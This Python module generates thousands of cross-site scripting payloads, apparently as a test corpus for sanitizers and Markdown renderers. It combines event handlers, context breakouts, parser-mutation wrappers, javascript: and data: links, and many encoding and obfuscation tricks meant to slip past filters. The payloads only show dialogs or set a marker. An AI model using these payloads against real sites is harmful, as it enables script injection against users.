"""Thousands of ways to make a page run a script: each trick in each disguise at each place. Our own list.

What runs sets ``window.__ran`` or opens a dialog, so a browser can tell.
"""

from collections.abc import Callable, Iterator, Sequence
from itertools import chain, cycle, product
from urllib.parse import quote

CALLS = ("alert(1)", "confirm(1)", "prompt(1)", "print()", "window.__ran=1", "top.__ran=1", "alert`1`", "(alert)(1)")
EVENTS = (
    *("abort", "afterprint", "animationcancel", "animationend", "animationiteration", "animationstart", "auxclick"),
    *("beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforeprint", "beforescriptexecute"),
    *("beforetoggle", "beforeunload", "begin", "blur", "bounce", "cancel", "canplay", "canplaythrough", "change"),
    *("click", "close", "command", "contentvisibilityautostatechange", "contextmenu", "contextrestored", "copy"),
    *("cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave", "dragover", "dragstart", "drop"),
    *("durationchange", "emptied", "end", "ended", "error", "finish", "focus", "focusin", "focusout", "formdata"),
    *("fullscreenchange", "gesturestart", "gotpointercapture", "hashchange", "input", "invalid", "keydown", "keypress"),
    *("keyup", "languagechange", "load", "loadeddata", "loadedmetadata", "loadstart", "lostpointercapture", "message"),
    *(
        "mousedown",
        "mouseenter",
        "mouseleave",
        "mousemove",
        "mouseout",
        "mouseover",
        "mouseup",
        "mousewheel",
        "offline",
    ),
    *("online", "orientationchange", "pagehide", "pageshow", "paste", "pause", "play", "playing", "pointercancel"),
    *("pointerdown", "pointerenter", "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup"),
    *("popstate", "progress", "ratechange", "readystatechange", "repeat", "reset", "resize", "scroll", "scrollend"),
    *("scrollsnapchange", "search", "securitypolicyviolation", "seeked", "seeking", "select", "selectionchange"),
    *("selectstart", "show", "slotchange", "stalled", "start", "storage", "submit", "suspend", "timeupdate", "toggle"),
    *("touchcancel", "touchend", "touchmove", "touchstart", "transitionend", "transitionrun", "unhandledrejection"),
    *("unload", "volumechange", "waiting", "webkitanimationend", "webkitmouseforcechanged", "wheel", "zoom"),
)
TAGS = (
    *("a", "audio", "body", "button", "details", "dialog", "div", "embed", "form", "frameset", "iframe", "img"),
    *("input", "isindex", "keygen", "link", "marquee", "math", "object", "p", "select", "style", "svg", "table"),
    *("textarea", "video", "xss-x", "svg><animate", "svg><use", "math><mtext"),
)
QUOTINGS = (
    "{}={}",
    "{}='{}'",
    '{}="{}"',
    "{} = {}",
    "/{}={}//",
    "{}\n=\n'{}'",
    "{}=`{}`",
    "\x0c{}\x0c=\x0c{}",
    "x{}={}",
)
BREAKS = (
    *("", '"', "'", "`", '">', "'>", '"/>', "-->", "--!>", "]]>", "*/", "?>", "%>", "}}", '\\">', "&quot;>", "</a>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</xmp>", "</iframe>"),
    *("</select>", "</svg>", "</math>", "</noembed>", "</noframes>", "<!--", "<![CDATA[", "<!DOCTYPE x>"),
)
CARRIERS = (
    *("<script>{}</script>", "<script src=data:,{}></script>", "<img src=x onerror={}>", "<svg onload={}>"),
    *("<svg/onload={}//", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>"),
    *("<a href=javascript:{}>x</a>", "<details open ontoggle={}>", "<input autofocus onfocus={}>"),
    *("<object data=javascript:{}>", "<embed src=javascript:{}>", "<math><a xlink:href=javascript:{}>x</a></math>"),
    *("<form action=javascript:{}><button>x</button></form>", "<button formaction=javascript:{}>x</button>"),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<style>@keyframes x{{}}</style><p onanimationend={}>",
    ),
    *("<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=onload to={}></svg>"),
    *("<svg><script>{}</script></svg>", "<video><source onerror={}></video>", "<base href=javascript:{}//>"),
)
WRAPPERS = (
    *("<svg>{}</svg>", "<math>{}</math>", "<math><mi>{}</mi></math>", "<svg><desc>{}</desc></svg>"),
    *("<svg><style>{}</style></svg>", "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>"),
    *("<svg><title>{}</title></svg>", "<svg><foreignObject>{}</foreignObject></svg>", "<noscript>{}</noscript>"),
    *("<noscript><p title='</noscript>{}'>", "<template>{}</template>", "<style>{}</style>", "<title>{}</title>"),
    *("<textarea>{}</textarea>", "<xmp>{}</xmp>", "<iframe>{}</iframe>", "<noembed>{}</noembed>", "<plaintext>{}"),
    *("<select>{}</select>", "<table>{}</table>", "<form><math><mtext></form><form><mglyph><style></math>{}"),
    *("<!--{}-->", "<![CDATA[{}]]>", "<script>{}</script>", "<p title='{}'>", '<p title="{}">', "<x {}>"),
)
FORMS = (
    *("[x]({})", "[x](<{}>)", '[x]({} "x")', "[x]({} 'x')", "![x]({})", "![x](<{}> 'x')", "<{}>", "[x]: {}\n\n[x]"),
    *("[x]: <{}>\n\n[x][x]", "![x]\n\n[x]: {}", "[[x]({})](https://a.example)", "[x](https://a.example)[y]({})"),
    *("[![x]({})](https://a.example)", "[x\\](]({})", "[x]( {} )", "[x](\n{}\n)", "> [x]({})", "- [x]({})"),
    *("# [x]({})", "|a|\n|-|\n|[x]({})|", "**[x]({})**", "[`x`]({})", "[x][1]\n\n[1]: {} '\"onclick=alert(1)'"),
    *("<a href='{}'>x</a>", '<a href="{}">x</a>', "<a href={}>x</a>", "<img src='{}'>", "<iframe src='{}'>"),
)
ADDRESSES = (
    *("javascript:{}", "vbscript:{}", "livescript:{}", "data:text/html,<script>{}</script>", "data:,{}"),
    "data:image/svg+xml,<svg/onload={}>",
)
TITLED = (
    *('[x](https://a.example "{}")', "[x](https://a.example '{}')", "[x](https://a.example ({}))"),
    *(
        '[x]: https://a.example "{}"\n\n[x]',
        "https://a.example/{}",
        "https://a.example/?q={}",
        "<https://a.example/{}>",
    ),
    *("```{}\nx\n```", "~~~ {}\nx\n~~~", "`{}`", "[{}](https://a.example)", "@{}", "- [ ] {}", "    {}", "{}\n==="),
)


def decimal(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


def padded(text: str) -> str:
    return "".join(f"&#{ord(sign):07}" for sign in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(sign):X};" for sign in text)


def named(text: str) -> str:
    names = {":": "&colon;", "(": "&lpar;", ")": "&rpar;", "<": "&lt;", ">": "&gt;", "=": "&equals;", "/": "&sol;"}
    return "".join(names.get(sign, sign) for sign in text)


def utf_7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-").replace("=", "+AD0-")


def overlong(text: str) -> str:
    """As bytes that are read letter by letter."""
    return text.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe").replace(":", "\xc0\xba")


def wide(text: str) -> str:
    """Full-width forms, which some make plain again."""
    return "".join(chr(ord(sign) + 0xFEE0) if sign in "<>:()'\"=/" else sign for sign in text)


def between(sign: str) -> Callable[[str], str]:
    """Within the word before the colon or the bracket, where browsers pass over it."""
    return lambda text: f"{text[:3]}{sign}{text[3:]}"


DISGUISES: Sequence[Callable[[str], str]] = (
    *(str, str.upper, str.title, decimal, padded, hexadecimal, named, utf_7, overlong, wide, quote),
    *map(between, ("\t", "\n", "\r", "\0", "\x01", "\x0b", "\u00ad", "\u200b", "&Tab;", "&NewLine;", "/**/")),
    *("\x01{}".format, " {}".format, "\u2028{}".format, "\ufeff{}".format, "\\{}".format, "&#1;{}".format),
    lambda text: quote(quote(text)),
    lambda text: "\\x" + "\\x".join(f"{ord(sign):02x}" for sign in text),
)
FEW = DISGUISES[:11]


def handlers() -> Iterator[str]:
    """Every event at many elements; the quoting and the call take turns."""
    turns = zip(cycle(QUOTINGS), cycle(CALLS), strict=False)
    for (event, tag), (quoting, call) in zip(product(EVENTS, TAGS[::3]), turns, strict=False):
        yield f"<{tag} {quoting.format(f'on{event}', call)} src=x autofocus open>"


def attributes() -> Iterator[str]:
    """Every element with a few events in every quoting; then the call in every disguise."""
    for event, tag, quoting in product(("error", "load", "focus"), TAGS, QUOTINGS):
        yield f"<{tag} src=x {quoting.format(f'on{event}', CALLS[0])} tabindex=1 autofocus>"
    for quoting, disguise, call in product(QUOTINGS, DISGUISES, CALLS[:2]):
        yield f"<img src=x {quoting.format('onerror', disguise(call))}>"


def breakouts() -> Iterator[str]:
    """Out of whatever a page may have put around it."""
    for (bound, carrier), call in zip(product(BREAKS, CARRIERS), cycle(CALLS), strict=False):
        yield bound + carrier.format(call)
    for carrier, disguise in product(CARRIERS, FEW):
        yield disguise(carrier.format(CALLS[4]))


def mutations() -> Iterator[str]:
    """What a second parser reads otherwise than the first."""
    inside = cycle((CARRIERS[2], CARRIERS[0], CARRIERS[3]))
    for (outer, inner), carrier in zip(product(WRAPPERS, WRAPPERS), inside, strict=False):
        yield outer.format(inner.format(carrier.format(CALLS[0])))


def links() -> Iterator[str]:
    """In what Markdown makes links of."""
    for form, disguise in product(FORMS, DISGUISES):
        yield form.format(disguise(ADDRESSES[0].format(CALLS[0])))
    for (form, address, disguise), call in zip(product(FORMS, ADDRESSES[1:], FEW[:6]), cycle(CALLS), strict=False):
        yield form.format(disguise(address.format(call)))


def titles() -> Iterator[str]:
    """In what Markdown makes attributes, code or names of."""
    for (form, bound, carrier), call in zip(product(TITLED, BREAKS[:6], CARRIERS[:8]), cycle(CALLS), strict=False):
        yield form.format(bound + carrier.format(call))


def combined() -> list[str]:
    families = (handlers, attributes, breakouts, mutations, links, titles)
    return list(dict.fromkeys(chain.from_iterable(family() for family in families)))
